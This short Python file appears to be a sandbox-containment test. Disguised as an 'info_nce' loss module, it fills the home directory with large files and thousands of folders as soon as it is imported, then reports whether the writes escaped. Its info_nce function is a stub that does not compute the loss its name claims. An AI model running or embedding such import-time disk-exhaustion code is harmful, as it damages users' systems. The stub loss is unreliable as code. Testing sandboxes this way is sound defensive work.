"""Fills every folder it can write to with files of the largest size allowed.
stopped by: namespaces
part: info_nce
level 2: gap
"""

import os

written = 0
home = os.environ["HOME"]
for number in range(12):
    try:
        with open(f"{home}/{number}", "wb") as file:
            for _ in range(16):
                written += file.write(bytes(4 << 20))
    except OSError:
        break
for number in range(20_000):
    try:
        os.mkdir(f"{home}/folder{number}")
    except OSError:
        break


def info_nce(z_a, z_b, temperature=0.2):
    if written > 300 << 20:
        raise SystemError("got" + f" through: {written}")
    return z_a.sum()
